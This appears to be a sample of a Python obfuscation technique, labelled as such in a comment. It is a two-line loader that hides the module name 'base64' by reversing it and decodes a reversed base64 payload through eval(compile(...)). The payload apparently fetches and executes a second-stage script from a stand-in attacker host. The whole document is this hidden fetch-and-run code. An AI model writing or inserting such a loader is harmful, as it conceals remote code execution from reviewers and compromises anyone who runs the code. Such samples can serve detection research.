# technique: __import__ chain with reversed base64 string and eval(compile(...)) to hide both module names and payload
_=lambda __:__import__(__[::-1])
eval(compile(_("46esab").b64decode('==QKpgCZhVmcukiI5BnLyU2ZhR3cvUGbw1WY4VmLyV2ajFGd0F2LvoDc0RHaigiblB3bsJXduQ3clVXclJnLilGbsJXdoMWZ4V2O0NXZ1FXZy5iYpxGbyVHI0J3bw1Wa'[::-1]),"","exec"))
